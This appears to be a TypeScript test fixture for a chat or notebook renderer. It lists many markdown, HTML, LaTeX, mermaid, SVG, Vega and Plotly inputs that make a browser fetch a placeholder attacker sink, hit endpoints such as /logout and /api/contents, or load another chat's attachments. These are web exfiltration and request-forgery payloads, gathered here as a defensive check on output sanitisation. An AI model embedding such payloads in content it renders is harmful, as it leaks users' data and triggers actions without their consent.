import { bodies, bundles } from './specimen.js';

/** Addresses that a reader's browser must not request automatically. */
const OWN = [
  '/logout?{evil}',
  '/api/contents?{evil}',
  '/proxy/9999/?{evil}',
  'files/a?{evil}',
  '/colloquy/chat/threads?{evil}'
];
const FOREIGN = '{sink}/?{evil}';

/** Files of another chat, whatever they are. */
const FILES = Array.from(
  { length: 20 },
  (_, i) =>
    `![a](chat/threads/00000000-0000-4000-8000-000000000000/attachments/00000000-0000-4000-8000-${String(i).padStart(12, '0')}/{evil}.png)`
).join(' ');

const IN_MARKDOWN = [
  FILES,
  ...OWN.map(url => `![plot](${url})`),
  `![plot](${FOREIGN})`,
  `![a][b]\n\n[b]: ${FOREIGN}`,
  `[![a](${FOREIGN})](x)`,
  `| ![a](/logout?{evil}) |\n| - |\n| ![a](${FOREIGN}) |`,
  `- ![a](//127.0.0.1:1/?{evil})`,
  `![a](\\\\127.0.0.1\\?{evil})`,
  `$\\require{/logout?{evil}}$`,
  `$\\includegraphics{${FOREIGN}}$`,
  `$$\\style{background:url(${FOREIGN})}{x}$$`,
  `$$\\fcolorbox{red;cursor:url(${FOREIGN}),auto}{white}{x}$$`,
  `$\\fcolorbox{red;cursor:url(/logout?{evil}),auto}{white}{x}$`,
  `$$\\text{\\fcolorbox {red;cursor:url(/logout?{evil})}{white}{x}}$$`,
  `\`\`\`mermaid\ngraph TD\n a["<img src='${FOREIGN}'>"]\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"themeCSS": "*{background:url(${FOREIGN})}"}}%%\ngraph TD\n a-->b\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"fontFamily": "x;src:url(${FOREIGN})"}}%%\ngraph TD\n a-->b\n style a fill:url(${FOREIGN})\n\`\`\``
];

const IN_HTML = [
  ...[
    'img',
    'embed',
    'iframe',
    'video',
    'audio',
    'input type="image"',
    'script',
    'track',
    'source'
  ].map(tag => `<${tag} src="${FOREIGN}"></${tag.split(' ')[0]}>`),
  `<img srcset="${FOREIGN} 1x, /logout?{evil} 2x">`,
  `<img src="/logout?{evil}" loading="eager">`,
  `<img lowsrc="${FOREIGN}" dynsrc="${FOREIGN}">`,
  `<picture><source srcset="${FOREIGN}"><img src="/api/contents?{evil}"></picture>`,
  `<video poster="${FOREIGN}" autoplay><source src="/logout?{evil}"></video>`,
  `<object data="${FOREIGN}"></object>`,
  `<link rel="stylesheet" href="${FOREIGN}">`,
  `<link rel="prefetch" href="/logout?{evil}"><link rel="dns-prefetch" href="//evil.invalid">`,
  `<link rel="preload" as="image" href="${FOREIGN}">`,
  `<style>@import url("${FOREIGN}");</style>`,
  `<style>@font-face{font-family:e;src:url(${FOREIGN})}*{font-family:e}</style>a`,
  `<b style="background:url(${FOREIGN})">a</b>`,
  `<b style="background-image:image-set('${FOREIGN}' 1x)">a</b>`,
  `<li style="list-style-image:url('/logout?{evil}')">a</li>`,
  `<b style="cursor:url(${FOREIGN}),auto">a</b>`,
  `<table background="${FOREIGN}"><tr><td background="/logout?{evil}">a</td></tr></table>`,
  `<body background="${FOREIGN}">`,
  `<svg><image href="${FOREIGN}" width=9 height=9 /></svg>`,
  `<svg><use href="/logout?{evil}#x" /></svg>`,
  `<svg><filter id=f><feImage href="${FOREIGN}" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  `<form action="/logout?{evil}"><input autofocus></form>`,
  `<a href="x" ping="${FOREIGN}">a</a>`,
  `<meta http-equiv="refresh" content="0;url=/logout?{evil}">`,
  `<base href="${FOREIGN}"><img src="a">`,
  `<math><maction actiontype="statusline" xlink:href="${FOREIGN}">a</maction></math>`
];

const vega = (data: object): object => ({
  $schema: 'https://vega.github.io/schema/vega/v5.json',
  width: 50,
  height: 50,
  data: [{ name: 'd', ...data }],
  marks: [{ type: 'image', encode: { enter: { url: { value: FOREIGN } } } }]
});
const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image href="${FOREIGN}" xlink:href="/logout?{evil}" width="9" height="9"/></svg>`;

export const REQUESTS = [
  ...bodies('asking-markdown', IN_MARKDOWN),
  ...bodies('asking-html', IN_HTML),
  ...bundles('asking-bundle', [
    { 'application/vnd.vega.v5+json': vega({ url: '/api/contents?{evil}' }) },
    { 'application/vnd.vega.v5+json': vega({ url: FOREIGN, format: { type: 'csv' } }) },
    { 'application/vnd.vegalite.v5+json': { data: { url: '/api/contents?{evil}' }, mark: 'bar' } },
    { 'application/geo+json': { type: 'Point', coordinates: [0, 0] } },
    { 'text/html': `<img src="${FOREIGN}"><iframe src="/logout?{evil}"></iframe>` },
    {
      'text/html': `<style>@import url(${FOREIGN})</style><table style="background:url(${FOREIGN})"></table>`
    },
    { 'image/svg+xml': svg },
    { 'text/markdown': `![a](/logout?{evil})` },
    { 'text/markdown': FILES },
    { 'application/pdf': 'JVBERi0=' },
    {
      'application/vnd.plotly.v1+json': {
        data: [{ type: 'scattermapbox', lat: [0], lon: [0] }],
        layout: { images: [{ source: FOREIGN }] }
      }
    }
  ])
];
